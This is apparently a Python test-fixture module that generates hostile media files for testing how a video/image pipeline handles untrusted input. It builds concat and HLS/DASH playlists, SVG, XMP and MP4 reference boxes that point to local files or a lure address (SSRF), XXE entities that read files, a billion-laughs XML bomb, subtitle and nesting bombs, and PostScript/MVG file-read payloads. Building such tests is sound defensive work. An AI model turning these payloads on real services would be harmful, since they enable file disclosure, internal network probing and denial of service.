"""Files that are no footage but name some: another file, or an address to call."""

import struct
from pathlib import Path

from tests.hostile.boxes import box, edited, full_box
from tests.hostile.lures import Lures


def files(lures: Lures, mp4: bytes, jpeg: bytes) -> dict[str, bytes]:
    """Return hostile files by name.

    Parameters
    ----------
    lures : Lures
        What they name.
    mp4, jpeg : bytes
        Sound footage to build into some of them.
    """
    texts = _concat(lures) | _playlists(lures) | _xml(lures) | _scripts(lures)
    return {name: text.encode() for name, text in texts.items()} | _containers(lures, mp4, jpeg)


def _concat(lures: Lures) -> dict[str, str]:
    start = "ffconcat version 1.0\n"
    return {
        "concat_sibling.mp4": f"{start}file {lures.sibling}\n",
        "concat_abs.mp4": f"{start}file '{lures.other}'\n",
        "concat_file_url.jpg": f"{start}file 'file:{lures.other}'\n",
        "concat_ssrf.mp4": f"{start}file 'http://{lures.address}/a.mp4'\n",
        "concat_up.mkv": f"{start}file 'other-case/{lures.other.name}'\n",
        "concat_self.mp4": f"{start}file concat_self.mp4\nfile media\n",
        "concat_bomb.mp4": start + f"file {lures.sibling}\nduration 36000\n" * 50_000,
        "concat_crlf.mp4": f"ffconcat version 1.0\r\nfile {lures.sibling}\r\n",
        "concat_bom.mp4": f"\ufeffffconcat version 1.0\nfile {lures.sibling}\n",
    }


def _playlists(lures: Lures) -> dict[str, str]:
    head = "#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:1\n"
    one, end = "#EXTINF:1.0,\n", "\n#EXT-X-ENDLIST\n"
    http = f"http://{lures.address}"
    return {
        "hls_abs_other_case.mp4": f"{head}{one}{lures.other}{end}",
        "hls_file_url.mp4": f"{head}{one}file://{lures.other}{end}",
        "hls_sibling.m3u8": f"{head}{one}{lures.sibling}{end}",
        "hls_ssrf.mp4": f"{head}{one}{http}/a.ts{end}",
        "hls_key_ssrf.mp4": (
            f'{head}#EXT-X-KEY:METHOD=AES-128,URI="{http}/key"\n{one}{lures.sibling}{end}'
        ),
        "hls_map.mp4": f'{head}#EXT-X-MAP:URI="{lures.other}"\n{one}{lures.sibling}{end}',
        "hls_master.mp4": f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{http}/next.m3u8\n",
        "hls_late.mp4": "\n" * 3_000 + f"{head}{one}{lures.other}{end}",
        "hls_bom.mp4": f"\ufeff{head}{one}{lures.other}{end}",
        "pls.mp4": f"[playlist]\nFile1={http}/a.mp4\nNumberOfEntries=1\n",
        "asx.wmv": f'<asx version="3.0"><entry><ref href="{http}/a.wmv"/></entry></asx>',
        "reference.asf": f"[Reference]\r\nRef1={http}/a.asf\r\n",
        "url.mp4": f"[InternetShortcut]\nURL={http}/\n",
        "rtsptext.mov": f"RTSPtext\r\nrtsp://{lures.address}/a\r\n",
        "sdp_rtp.mp4": (
            f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=a\nc=IN IP4 127.0.0.1\nt=0 0\n"
            f"m=video {lures.port} RTP/AVP 96\na=rtpmap:96 H264/90000\n"
        ),
    }


def _xml(lures: Lures) -> dict[str, str]:
    http = f"http://{lures.address}"
    entity = (
        f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{lures.other}"><!ENTITY b SYSTEM "{http}/b">]>'
    )
    dash = (
        '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT1S"><Period><AdaptationSet mimeType="video/mp4">'
        "<Representation id='1' bandwidth='1'><BaseURL>{}</BaseURL></Representation>"
        "</AdaptationSet></Period></MPD>"
    )
    return {
        "dash_ssrf.mp4": '<?xml version="1.0"?>' + dash.format(f"{http}/a.mp4"),
        "dash_abs.mp4": '<?xml version="1.0"?>' + dash.format(f"file://{lures.other}"),
        "dash_xxe.mp4": f'<?xml version="1.0"?>{entity}' + dash.format("&a;&b;"),
        "svg_href.jpg": (
            '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'
            f'<image href="file://{lures.other}" width="9" height="9"/>'
            f'<image href="{http}/i.png" width="9" height="9"/></svg>'
        ),
        "svg_xxe.svg": (
            f'<?xml version="1.0"?>{entity}<svg xmlns="http://www.w3.org/2000/svg"><text>&a;&b;'
            "</text></svg>"
        ),
        "imf.mp4": (
            f'<?xml version="1.0"?>{entity}<CompositionPlaylist '
            'xmlns="http://www.smpte-ra.org/schemas/2067-3/2016">&b;</CompositionPlaylist>'
        ),
        "smil.mp4": f'<smil><body><video src="{http}/v.mp4"/></body></smil>',
        "xspf.mp4": f"<playlist><trackList><track><location>{http}/a</location></track></trackList>"
        "</playlist>",
        "html.mp4": f'<!doctype html><script src="{http}/s.js"></script>',
    }


def _scripts(lures: Lures) -> dict[str, str]:
    http = f"http://{lures.address}"
    return {
        "lavfi.mp4": f"movie={lures.other}",
        "ffmetadata.mp4": ";FFMETADATA1\ntitle=a\n[CHAPTER]\nSTART=0\nEND=1\n",
        "avisynth.avs": f'AviSource("{lures.other}")\n',
        "vapoursynth.vpy": f"open({str(lures.other)!r}).read()\n",
        "postscript.jpg": f"%!PS-Adobe-3.0 EPSF-3.0\n({lures.other}) (r) file 100 string\n",
        "mvg.png": f"push graphic-context\nimage over 0,0 0,0 '{http}/x.png'\npop graphic-context",
        "ass_bomb.mp4": (
            "[Script Info]\nScriptType: v4.00+\n[Events]\nFormat: Start, End, Text\n"
            + "Dialogue: 0:00:00.00,9:59:59.99,{\\fs99999\\bord9999\\blur9999}"
            "{\\t(0,99999999,\\frz99999)}x\n" * 20_000
        ),
        "subtitles.mp4": "1\n00:00:00,000 --> 99:59:59,000\n<b>x</b>\n",
        "pattern_%03d.png": "no picture at all",
    }


def _containers(lures: Lures, mp4: bytes, jpeg: bytes) -> dict[str, bytes]:
    other = str(lures.other).encode()
    url = f"http://{lures.address}/a.mp4".encode()

    def pointing_to(where: bytes, kind: bytes = b"url ") -> bytes:
        entry = full_box(kind, where + b"\0")
        return edited(mp4, {b"dref": lambda _old: struct.pack(">II", 0, 1) + entry})

    reference = struct.pack(">I", 0) + b"url " + struct.pack(">I", len(url) + 1) + url + b"\0"
    movie = box(b"rmra", box(b"rmda", box(b"rdrf", reference)))
    return {
        "mp4_dref_abs.mp4": pointing_to(b"file://" + other),
        "mp4_dref_http.mp4": pointing_to(url),
        "mp4_dref_plain.mov": pointing_to(other),
        "mp4_dref_alis.mov": pointing_to(_alias(lures.other), b"alis"),
        "mov_rmra.mov": box(b"ftyp", b"qt  \0\0\2\0qt  ") + box(b"moov", movie),
        "xmp_xxe.jpg": with_xmp(jpeg, _entities(lures)),
        "xmp_provenance.jpg": with_xmp(jpeg, _provenance(lures)),
        "xmp_billion_laughs.jpg": with_xmp(jpeg, _laughs()),
        "xmp_deep.jpg": with_xmp(jpeg, "<a>" * 15_000),
    }


def _alias(path: Path) -> bytes:
    """Return an alias record as old QuickTime writes it, naming a file by its path."""
    name, where = path.name.encode(), str(path).encode()
    fixed = bytes(10) + b"\x06" + b"volume".ljust(27, b"\0") + bytes(12)
    fixed += bytes([len(name)]) + name.ljust(63, b"\0") + bytes(16 + 4 + 16)
    return fixed + struct.pack(">hH", 2, len(where)) + where + struct.pack(">hH", -1, 0)


def with_xmp(jpeg: bytes, xmp: str) -> bytes:
    """Return a JPEG with an XMP packet (ISO 16684-1)."""
    packet = b"http://ns.adobe.com/xap/1.0/\0" + xmp.encode()
    return jpeg[:2] + b"\xff\xe1" + struct.pack(">H", 2 + len(packet)) + packet + jpeg[2:]


def _entities(lures: Lures) -> str:
    return (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file://{lures.other}">'
        f'<!ENTITY b SYSTEM "http://{lures.address}/b">]>'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/">&a;&b;</x:xmpmeta>'
    )


def _provenance(lures: Lures) -> str:
    """Name an address where Content Credentials are to be fetched from (C2PA, remote manifests)."""
    return (
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" '
        'xmlns:dcterms="http://purl.org/dc/terms/" '
        f'dcterms:provenance="http://{lures.address}/manifest.c2pa"/></rdf:RDF></x:xmpmeta>'
    )


def _laughs() -> str:
    entities = '<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12)
    )
    return f'<?xml version="1.0"?><!DOCTYPE x [{entities}]><x>&l11;</x>'
